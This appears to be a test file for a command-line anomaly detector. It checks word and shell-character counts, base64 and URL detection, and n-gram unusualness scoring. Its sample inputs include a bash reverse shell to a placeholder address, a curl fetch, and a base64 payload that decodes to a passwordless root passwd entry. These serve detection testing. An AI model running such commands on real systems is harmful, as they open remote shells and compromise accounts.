import fc from 'fast-check';
import { StateReader, StateWriter } from '../../../../src/core/state-codec.ts';
import { CommandLine } from '../../../../src/pipeline/features/command-line.ts';
import { DecayClock } from '../../../../src/pipeline/features/decay-clock.ts';
import { NgramCounts } from '../../../../src/pipeline/features/ngram-counts.ts';
import { hashStart } from '../../../../src/pipeline/features/text-hash.ts';
import { anyText } from '../../../support/any-event.ts';

const PAYLOAD = 'cm9vdDo6MDowOnJvb3Q6L3Jvb3Q6L2Jpbi9iYXNoCg==';

function read(text: string): CommandLine {
  const line = new CommandLine(hashStart(0));
  line.read(text);
  return line;
}

describe('CommandLine', () => {
  test('counts words and what a shell acts on', () => {
    expect(read('sh -c echo hello | tee /x; id > out')).toMatchObject({
      words: 10,
      longestWord: 5,
      shellCharacters: 3,
    });
    expect(read('')).toMatchObject({ words: 0, length: 0, longestWord: 0 });
  });

  test.each([
    [`echo ${PAYLOAD} | base64 -d`, PAYLOAD.length],
    ['ls /usr/lib/x86_64-linux-gnu/gstreamer1.0/plugins', 0],
    ['git show 3f786850e387550fdab836ed7e6dc881de23001b', 0],
    ['echo short', 0],
  ])('finds base64 in %s', (text, run) => {
    expect(read(text).base64Run).toBe(run);
  });

  test.each([
    ['curl -s http://198.51.100.7/x', true],
    ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', true],
    ['ls /dev', false],
  ])('finds where to connect to in %s', (text, hasUrl) => {
    expect(read(text).hasUrl).toBe(hasUrl);
  });

  test('has one build for the same options with other values', () => {
    const { build } = read('tar -xzf /tmp/a.tar --strip=1 src');
    expect(read('tar -xzf /srv/b.tar --strip=2 lib').build).toBe(build);
    expect(read('tar -xzf /srv/b.tar --strip=2 lib more words').build).toBe(build);
    expect(read('tar -czf /tmp/a.tar --strip=1 src').build).not.toBe(build);
    expect(read('tar -xzf a.tar --strip=1 src').build).not.toBe(build);
  });

  test('takes bounded time for a line of any length', () => {
    const line = read(`x ${'A1b'.repeat(1_000_000)}`);
    expect(line.length).toBe(3_000_002);
    expect(line.longestWord).toBe(2046);
  });

  test('gives the same for a line whatever was read before', () => {
    const line = new CommandLine(hashStart(0));
    fc.assert(
      fc.property(anyText, anyText, (first, second) => {
        line.read(first);
        line.read(second);
        expect(line).toEqual(read(second));
        expect(line.build).toBe(read(second).build);
      }),
    );
  });
});

describe('NgramCounts', () => {
  const usual = Array.from(
    { length: 300 },
    (_, index) => `/usr/bin/python3 /srv/app/main.py --port ${index}`,
  );

  function trained(): NgramCounts {
    const counts = new NgramCounts(new DecayClock(86_400_000));
    for (const text of usual) {
      counts.learn(text);
    }
    return counts;
  }

  test('finds usual characters usual and a payload not', () => {
    const counts = trained();
    counts.look(usual[7] ?? '');
    const mean = counts.mean;
    expect(mean).toBeLessThan(0.5);
    counts.look(`python3 -c ${PAYLOAD}`);
    expect(counts.mean).toBeGreaterThan(mean + 1);
  });

  test('points at the unusual stretch of a long line', () => {
    const counts = trained();
    const line = `${usual[0]} ${usual[1]} `;
    counts.look(`${line}${PAYLOAD}`);
    expect(counts.worst).toBeGreaterThan(counts.mean);
    expect(counts.worstStart).toBeGreaterThanOrEqual(line.length - 16);
  });

  test('says nothing of a text of two characters', () => {
    const counts = trained();
    counts.look('ab');
    expect([counts.mean, counts.worst]).toEqual([0, 0]);
  });

  test('is finite for any text and the same after a restore', () => {
    const counts = trained();
    fc.assert(
      fc.property(anyText, (text) => {
        counts.learn(text);
        counts.look(text);
        expect(counts.mean).toBeGreaterThanOrEqual(0);
        expect(counts.mean).toBeLessThan(20);
        expect(counts.worst).toBeLessThan(20);
      }),
    );
    const state = new StateWriter();
    counts.save(state);
    const restored = new NgramCounts(new DecayClock(86_400_000));
    restored.restore(new StateReader(state.bytes()));
    for (const text of ['curl -s x', PAYLOAD, 'ünïcode ✓']) {
      counts.look(text);
      restored.look(text);
      expect([restored.mean, restored.worst]).toEqual([counts.mean, counts.worst]);
    }
  });

  test('keeps its answers when weights are made smaller', () => {
    const clock = new DecayClock(60_000);
    const counts = new NgramCounts(clock);
    clock.advance(0);
    for (let time = 0; time < 1000; time++) {
      counts.learn('abcabcabc');
    }
    let factor = 1;
    for (let minute = 1; minute <= 41; minute++) {
      factor = clock.advance(minute * 60_000);
      if (factor !== 1) {
        counts.scale(factor);
        break;
      }
    }
    expect(factor).toBeLessThan(1);
    counts.look('abcabcabc');
    expect(counts.mean).toBeCloseTo(Math.log(40), 2);
  });
});
